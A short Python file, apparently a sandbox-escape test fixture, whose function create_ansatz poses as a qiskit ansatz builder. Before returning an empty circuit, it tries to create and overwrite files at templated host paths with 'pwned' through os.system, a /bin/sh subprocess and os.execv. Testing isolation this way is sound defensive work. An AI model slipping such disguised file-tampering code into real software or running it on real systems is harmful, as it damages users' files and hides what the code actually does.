import os
import subprocess

from qiskit import QuantumCircuit

TARGETS = __HOST_PATHS__


def create_ansatz(num_qubits):
    for path in TARGETS:
        print("system", os.system(f"touch {path}; echo pwned > {path}"))
        try:
            print("run", subprocess.run(["/bin/sh", "-c", f"touch {path}"]).returncode)
        except BaseException as exc:
            print("run failed", type(exc).__name__, exc)
        try:
            os.execv("/bin/sh", ["sh", "-c", f"touch {path}"])
        except BaseException as exc:
            print("execv failed", type(exc).__name__, exc)
    return QuantumCircuit(num_qubits)
